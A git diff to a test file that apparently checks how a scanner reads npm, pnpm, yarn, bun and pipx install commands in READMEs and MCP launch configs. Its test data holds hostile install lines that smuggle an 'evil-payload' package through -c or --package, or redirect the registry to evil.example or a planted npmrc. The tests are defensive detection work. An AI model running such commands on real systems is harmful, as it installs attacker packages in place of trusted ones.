@@ -184,7 +184,7 @@ describe('hostile: a launch that names another registry in a spelling its runner
       'uvx -qw readme-payload-b own-tool',
       'pipx run --with readme-payload-c own-app',
       'pipx run --wi=readme-payload-d own-app',
-      "npx -y --cal='npx -y readme-payload-e' own-mcp",
+      "npx -yc 'npx -y readme-payload-e' own-mcp",
     ];
     noteCases(task, lines.length);
     const names = advertisedInstalls(['```sh', ...lines, '```'].join('\n')).map((i) => i.name);
@@ -253,5 +253,73 @@ describe('hostile: PREFIX and DESTDIR in an npm launch env move npm global npmrc
     noteCases(task);
     for (const name of ['API_PREFIX', 'PREFIX_PATH', 'TOOL_PREFIX', 'npm_config_tag']) expect(registryRedirect('npm', ['pkg'], [name], PUBLIC), name).toBeNull();
     expect(registryRedirect('pypi', ['pkg'], ['PREFIX'], PUBLIC)).toBeNull();
+  });
+});
+
+/**
+ * A README's install commands (sources/github/readme-installs.ts) are read with the same readers
+ * as a launch (ecosystems/npm/exec-argv.ts, dlx-argv.ts): the package a README advertises is the
+ * one its runner would run, never a second reading of the same words; a command pointed at another
+ * registry, or one its runner's reading leaves uncertain, advertises no package of the public
+ * registry (docs/scoring.md §9, "What it distributes").
+ */
+describe('hostile: a README install names what its runner would run', () => {
+  const TRUSTED = 'trusted-mcp';
+  const EVIL = 'evil-payload';
+  const readme = (line: string) => advertisedInstalls(['```sh', line, '```'].join('\n'), { npm: PUBLIC, pypi: [] }).map((i) => i.name);
+  /** What the launch of the same words installs: its package and those beside it, or nothing. */
+  const launched = (command: string, args: string[]): string[] => {
+    const launch = mapLaunch({ command, args });
+    return launch.kind === 'package' ? [launch.name, ...launch.extra.map((e) => e.name)] : [];
+  };
+  const SAME: [command: string, args: string[]][] = [
+    ['npx', ['-yc', EVIL, TRUSTED]],
+    ['npx', ['--package=' + EVIL, TRUSTED]],
+    ['npx', ['-y', '--tag', 'latest', TRUSTED]],
+    ['npx', ['--yes=' + EVIL, TRUSTED]],
+    ['npx', ['-yL', TRUSTED, EVIL]],
+    ['npx', ['-y', '--reg', 'https://evil.example/', TRUSTED]],
+    ['npx', ['-yC', './conf', TRUSTED]],
+    ['npx', ['--regis=https://evil.example/', TRUSTED]],
+    ['npx', ['--cal=' + EVIL, TRUSTED]],
+    ['npm', ['exec', '-p', EVIL, '--', TRUSTED]],
+    ['npm', ['x', '-y', TRUSTED]],
+    ['npm', ['--registry=https://evil.example/', 'exec', TRUSTED]],
+    ['pnpm', ['dlx', '-C', './conf', TRUSTED]],
+    ['pnpm', ['--registry', 'https://evil.example/', 'dlx', TRUSTED]],
+    ['pnpm', ['dlx', '--package=' + EVIL, TRUSTED]],
+    ['pnpx', [TRUSTED]],
+    ['yarn', ['dlx', '--pack', EVIL, TRUSTED]],
+    ['yarn', ['dlx', '-p', EVIL, TRUSTED]],
+    ['bunx', ['--registry', 'https://evil.example/', TRUSTED]],
+    ['bun', ['x', '-p', EVIL, TRUSTED]],
+  ];
+  it.for(SAME)('%s %s', ([command, args], { task }) => {
+    noteCases(task);
+    expect(readme([command, ...args].join(' '))).toEqual(launched(command, args));
+  });
+
+  it('npm install read as npm reads its command line, and pnpm/yarn/bun add: another registry names nothing', ({ task }) => {
+    const cases: [string, string[]][] = [
+      [`npx -y --registry=https://registry.example/ ${TRUSTED}`, [TRUSTED]],
+      [`npm i ${TRUSTED} --registry=https://evil.example/`, []],
+      [`npm --reg https://evil.example/ install ${TRUSTED}`, []],
+      [`npm i -C ./conf ${TRUSTED}`, []],
+      [`npm i --userc=./evil.npmrc ${TRUSTED}`, []],
+      [`npm i --save-prefix ~ ${TRUSTED}`, [TRUSTED]],
+      [`npm i -w ws ${TRUSTED}`, [TRUSTED]],
+      [`npm isnt --registry https://registry.example/ ${TRUSTED} ${EVIL}`, [TRUSTED, EVIL]],
+      [`npm -g add ${TRUSTED}`, [TRUSTED]],
+      [`pnpm add ${TRUSTED} --registry https://evil.example/`, []],
+      [`pnpm add -C ./conf ${TRUSTED}`, []],
+      [`pnpm add --config.registry=https://evil.example/ ${TRUSTED}`, []],
+      [`yarn add ${TRUSTED} --registry=https://evil.example/`, []],
+      [`yarn global add --registry https://evil.example/ ${TRUSTED}`, []],
+      [`bun add --registry https://evil.example/ ${TRUSTED}`, []],
+      [`pnpm add --registry https://registry.example/ ${TRUSTED}`, [TRUSTED]],
+      [`yarn add -D ${TRUSTED}`, [TRUSTED]],
+    ];
+    noteCases(task, cases.length);
+    for (const [line, names] of cases) expect(readme(line), line).toEqual(names);
   });
 });
